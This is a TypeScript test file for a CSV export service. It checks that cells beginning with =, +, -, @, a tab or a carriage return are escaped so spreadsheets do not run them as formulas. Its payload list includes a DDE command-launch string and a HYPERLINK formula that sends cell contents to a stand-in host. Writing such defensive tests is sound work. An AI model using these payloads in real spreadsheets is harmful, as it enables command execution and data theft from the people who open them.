import { cells, csv } from '#services/csv'
import { test } from '@japa/runner'

/** What spreadsheets take for a formula, and what looks like it. */
const PAYLOADS = [
  '=1+1',
  '=HYPERLINK("http://example.test/?"&A1,"click")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '+cmd|calc',
  '-1+1',
  '-2+3+cmd|calc',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '=1+1\r\n=2+2',
  '="a";"b"',
  '=',
]

/** Reads RFC 4180 as a spreadsheet does: cells in quotes, quotes doubled. */
function parse(text: string): string[][] {
  return [...text.matchAll(/((?:"(?:[^"]|"")*",?)+)\r\n/g)].map(([, line = '']) =>
    [...line.matchAll(/"((?:[^"]|"")*)"/g)].map(([, cell = '']) => cell.replaceAll('""', '"'))
  )
}

test.group('Tables as CSV', () => {
  test('no cell is a formula, and each is read back with all that it said', ({ assert }) => {
    const rows = PAYLOADS.map((payload, at) => cells(at, payload, `a ${payload}`))

    const read = parse(csv(rows))

    assert.lengthOf(read, PAYLOADS.length)
    for (const [at, payload] of PAYLOADS.entries()) {
      const [number, cell = '', beside] = read[at] ?? []
      assert.equal(number, String(at))
      assert.notMatch(cell, /^[=+\-@\t\r]/)
      assert.equal(cell, `'${payload}`)
      assert.equal(beside, `a ${payload}`)
    }
  })

  test('numbers stay numbers, also below zero, and nothing is an empty cell', ({ assert }) => {
    assert.deepEqual(cells(-5, 0, null, 1.5), ['-5', '0', '', '1.5'])
  })
})
